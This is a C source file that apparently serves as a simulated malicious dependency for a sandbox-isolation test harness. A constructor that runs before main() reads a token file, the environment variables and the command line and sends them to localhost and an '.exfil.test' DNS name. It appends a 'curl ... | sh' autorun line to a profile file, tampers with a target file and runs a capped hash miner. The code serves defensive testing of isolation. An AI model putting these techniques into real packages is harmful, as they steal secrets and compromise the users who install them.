/* lib/evil.c -- the supply-chain "dependency" (SC-01..SC-04).
 * Exposes a harmless-looking API (evil_checksum, evil_version) that the SC-*
 * programs call, which makes the linker pull this object out of the static
 * archive -- and with it a constructor that misbehaves before main():
 *   --canary=PATH / ISOLA_EVIL_CANARY   SC-01: read the token file, env and
 *        cmdline, print them (stdout fallback), send them to 127.0.0.1:PORT
 *        (--port=N / ISOLA_EVIL_PORT) and try DNS "<label>.exfil.test".
 *   --persist=PATH   SC-02: append an autorun line to PATH (the harness's
 *        stand-in for ~/.profile on a persistent volume), drop /tmp/.isola-sc02
 *        and <workdir>/autorun.sh; ~/.profile and /etc/profile.d are only
 *        checked with access(W_OK), never written.
 *   --tamper=PATH    SC-03: overwrite PATH in place (else write+rename).
 *   --mine=SECONDS   SC-04: SHA-256 "mining" from an atexit handler, after the
 *        program's work completed, self-stopping after SECONDS (cap 30).
 * Constructors run in wasm too (__wasm_call_ctors); argv comes from args_get. */
#include "../common.h"
#ifndef __wasi__
#include <netdb.h>
#endif

static char ev_canary[1024], ev_persist[1024], ev_tamper[1024];
static int ev_port, ev_mine;

unsigned evil_checksum(const char *s) { unsigned h = 2166136261u; while (*s) h = (h ^ (unsigned char)*s++) * 16777619u; return h; }
const char *evil_version(void) { return "libevil 1.0.3 (totally legit)"; }

static void ev_arg(const char *a) {
  if (!strncmp(a, "--canary=", 9)) snprintf(ev_canary, sizeof ev_canary, "%s", a + 9);
  else if (!strncmp(a, "--port=", 7)) ev_port = atoi(a + 7);
  else if (!strncmp(a, "--persist=", 10)) snprintf(ev_persist, sizeof ev_persist, "%s", a + 10);
  else if (!strncmp(a, "--tamper=", 9)) snprintf(ev_tamper, sizeof ev_tamper, "%s", a + 9);
  else if (!strncmp(a, "--mine=", 7)) ev_mine = atoi(a + 7);
}

/* ---- SC-04: a compact SHA-256 ---- */
static const unsigned K[64] = {
  0x428a2f98,0x71374491,0xb5c0fbcf,0xe9b5dba5,0x3956c25b,0x59f111f1,0x923f82a4,0xab1c5ed5,0xd807aa98,0x12835b01,
  0x243185be,0x550c7dc3,0x72be5d74,0x80deb1fe,0x9bdc06a7,0xc19bf174,0xe49b69c1,0xefbe4786,0x0fc19dc6,0x240ca1cc,
  0x2de92c6f,0x4a7484aa,0x5cb0a9dc,0x76f988da,0x983e5152,0xa831c66d,0xb00327c8,0xbf597fc7,0xc6e00bf3,0xd5a79147,
  0x06ca6351,0x14292967,0x27b70a85,0x2e1b2138,0x4d2c6dfc,0x53380d13,0x650a7354,0x766a0abb,0x81c2c92e,0x92722c85,
  0xa2bfe8a1,0xa81a664b,0xc24b8b70,0xc76c51a3,0xd192e819,0xd6990624,0xf40e3585,0x106aa070,0x19a4c116,0x1e376c08,
  0x2748774c,0x34b0bcb5,0x391c0cb3,0x4ed8aa4a,0x5b9cca4f,0x682e6ff3,0x748f82ee,0x78a5636f,0x84c87814,0x8cc70208,
  0x90befffa,0xa4506ceb,0xbef9a3f7,0xc67178f2};
#define ROR(x, n) (((x) >> (n)) | ((x) << (32 - (n))))
static void sha256_block(unsigned h[8], const unsigned char *p) {
  unsigned w[64], a, b, c, d, e, f, g, k;
  for (int i = 0; i < 16; i++) w[i] = (unsigned)p[4*i] << 24 | (unsigned)p[4*i+1] << 16 | (unsigned)p[4*i+2] << 8 | p[4*i+3];
  for (int i = 16; i < 64; i++)
    w[i] = w[i-16] + (ROR(w[i-15],7) ^ ROR(w[i-15],18) ^ (w[i-15] >> 3)) + w[i-7] + (ROR(w[i-2],17) ^ ROR(w[i-2],19) ^ (w[i-2] >> 10));
  a = h[0]; b = h[1]; c = h[2]; d = h[3]; e = h[4]; f = h[5]; g = h[6]; k = h[7];
  for (int i = 0; i < 64; i++) {
    unsigned t1 = k + (ROR(e,6) ^ ROR(e,11) ^ ROR(e,25)) + ((e & f) ^ (~e & g)) + K[i] + w[i];
    unsigned t2 = (ROR(a,2) ^ ROR(a,13) ^ ROR(a,22)) + ((a & b) ^ (a & c) ^ (b & c));
    k = g; g = f; f = e; e = d + t1; d = c; c = b; b = a; a = t1 + t2;
  }
  h[0] += a; h[1] += b; h[2] += c; h[3] += d; h[4] += e; h[5] += f; h[6] += g; h[7] += k;
}
static void ev_miner(void) {
  int secs = ev_mine > 30 ? 30 : ev_mine;
  unsigned char blk[64] = "isola-sc04-block-header";
  unsigned long long nonce = 0, best = ~0ULL;
  double t0 = atk_now();
  printf("MINER:work done, mining in the background for %d s\n", secs); fflush(stdout);
  while (atk_now() - t0 < secs) {
    for (int i = 0; i < 4096; i++, nonce++) {
      unsigned h[8] = {0x6a09e667,0xbb67ae85,0x3c6ef372,0xa54ff53a,0x510e527f,0x9b05688c,0x1f83d9ab,0x5be0cd19};
      memcpy(blk + 48, &nonce, 8);
      sha256_block(h, blk);
      if (((unsigned long long)h[0] << 32 | h[1]) < best) best = (unsigned long long)h[0] << 32 | h[1];
    }
  }
  printf("MINER:hashes=%llu best=%016llx (self-stopped after %d s)\n", nonce, best, secs);
}

/* ---- SC-01 ---- */
static void ev_exfil(void) {
  extern char **environ;
  static char msg[16384], tok[4096];
  long n = ev_canary[0] ? atk_read_file(ev_canary, tok, sizeof tok) : -ENOENT;
  printf("EVIL:read %s -> %s\n", ev_canary, n >= 0 ? "READ" : atk_errname((int)-n));
  while (n > 0 && (tok[n-1] == '\n' || tok[n-1] == '\r')) tok[--n] = 0;
  if (n > 0) atk_token(tok, n); /* stdout fallback channel */
  snprintf(msg, sizeof msg, "ISOLA-SC-01 token=%s\n", n > 0 ? tok : "");
  for (char **e = environ; e && *e; e++) {
    printf("EVIL:env:%s\n", *e);
    if (strlen(msg) + strlen(*e) + 8 < sizeof msg) { strcat(msg, "env:"); strcat(msg, *e); strcat(msg, "\n"); }
  }
  char cmd[2048];
  long c = atk_read_file("/proc/self/cmdline", cmd, sizeof cmd);
  for (long i = 0; i < c; i++) if (!cmd[i]) cmd[i] = ' ';
  if (c > 0) printf("EVIL:cmdline:%s\n", cmd);
#ifdef __wasi__
  printf("EVIL:no sockets in WASI preview1, exfil via stdout only\n");
#else
  if (ev_port > 0) atk_connect_send("127.0.0.1", ev_port, msg);
  char name[128], label[48] = "isola-sc01";
  if (n > 0) { int j = 0; for (long i = 0; i < n && j < 40; i++) if ((tok[i] >= 'a' && tok[i] <= 'z') || (tok[i] >= '0' && tok[i] <= '9')) label[j++] = tok[i]; label[j] = 0; }
  snprintf(name, sizeof name, "%s.exfil.test", label);
  struct addrinfo hints = {0}, *res = NULL;
  hints.ai_family = AF_INET;
  int rc = getaddrinfo(name, NULL, &hints, &res);
  printf("EVIL:dns %s -> %s\n", name, rc ? gai_strerror(rc) : "resolved");
  if (res) freeaddrinfo(res);
#endif
  fflush(stdout);
}

/* ---- SC-02 ---- */
static void ev_persist_do(void) {
  static char buf[65536];
  long n = atk_read_file(ev_persist, buf, sizeof buf);
  if (n > 0 && strstr(buf, "isola-sc02")) printf("EVIL:persist marker from a previous task FOUND in %s\n", ev_persist);
  int fd = open(ev_persist, O_WRONLY | O_APPEND | O_CREAT, 0644);
  printf("EVIL:persist append %s -> %s\n", ev_persist, fd >= 0 ? "OPEN" : atk_errname(errno));
  if (fd >= 0) { const char l[] = "\n# isola-sc02\ncurl -s http://127.0.0.1/x | sh # isola-sc02 autorun\n"; write(fd, l, sizeof l - 1); close(fd); }
  char p[700];
  const char *drops[2] = {"/tmp/.isola-sc02", NULL};
  snprintf(p, sizeof p, "%s/autorun.sh", atk_workdir()); drops[1] = p;
  for (int i = 0; i < 2; i++) {
    int f = open(drops[i], O_WRONLY | O_CREAT | O_TRUNC, 0755);
    printf("EVIL:drop %s -> %s\n", drops[i], f >= 0 ? "WRITTEN" : atk_errname(errno));
    if (f >= 0) { write(f, "#!/bin/sh\n# isola-sc02\n", 23); close(f); }
  }
#ifndef __wasi__
  char prof[600]; const char *home = getenv("HOME");
  snprintf(prof, sizeof prof, "%s/.profile", home ? home : "/root");
  printf("EVIL:access(W_OK) %s -> %s (not written)\n", prof, access(prof, W_OK) == 0 ? "WRITABLE" : atk_errname(errno));
  printf("EVIL:access(W_OK) /etc/profile.d -> %s (not written)\n", access("/etc/profile.d", W_OK) == 0 ? "WRITABLE" : atk_errname(errno));
#endif
  fflush(stdout);
}

/* ---- SC-03 ---- */
static void ev_tamper_do(void) {
  const char evil[] = "# isola-sc03 tampered: LD_PRELOAD=/tmp/evil.so\n";
  int fd = open(ev_tamper, O_WRONLY);
  if (fd >= 0) {
    long w = write(fd, evil, sizeof evil - 1);
    printf("EVIL:tamper in place %s -> %s\n", ev_tamper, w > 0 ? "WRITTEN" : atk_errname(errno));
    close(fd);
    if (w > 0) { fflush(stdout); return; }
  } else printf("EVIL:tamper open %s -> %s\n", ev_tamper, atk_errname(errno));
  char tmp[1100];
  snprintf(tmp, sizeof tmp, "%s.isola-sc03", ev_tamper);
  int t = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (t >= 0) { write(t, evil, sizeof evil - 1); close(t); }
  printf("EVIL:tamper replace via rename -> %s\n", t >= 0 && rename(tmp, ev_tamper) == 0 ? "REPLACED" : atk_errname(errno));
  unlink(tmp);
  fflush(stdout);
}

#ifdef __wasi__
__attribute__((constructor)) static void evil_init(void) {
  __wasi_size_t argc = 0, sz = 0;
  if (__wasi_args_sizes_get(&argc, &sz) == 0 && argc < 64 && sz < 65536) {
    char **argv = malloc(sizeof(char *) * (argc + 1)), *bufp = malloc(sz);
    if (argv && bufp && __wasi_args_get((uint8_t **)argv, (uint8_t *)bufp) == 0)
      for (__wasi_size_t i = 1; i < argc; i++) ev_arg(argv[i]);
  }
#else
__attribute__((constructor)) static void evil_init(int argc, char **argv, char **envp) {
  (void)envp;
  for (int i = 1; i < argc; i++) ev_arg(argv[i]);
#endif
  const char *e;
  if (!ev_canary[0] && (e = getenv("ISOLA_EVIL_CANARY"))) snprintf(ev_canary, sizeof ev_canary, "%s", e);
  if (!ev_port && (e = getenv("ISOLA_EVIL_PORT"))) ev_port = atoi(e);
  printf("EVIL:constructor running before main()\n");
  if (ev_canary[0] || ev_port) ev_exfil();
  if (ev_persist[0]) ev_persist_do();
  if (ev_tamper[0]) ev_tamper_do();
  if (ev_mine > 0) atexit(ev_miner);
  fflush(stdout);
}
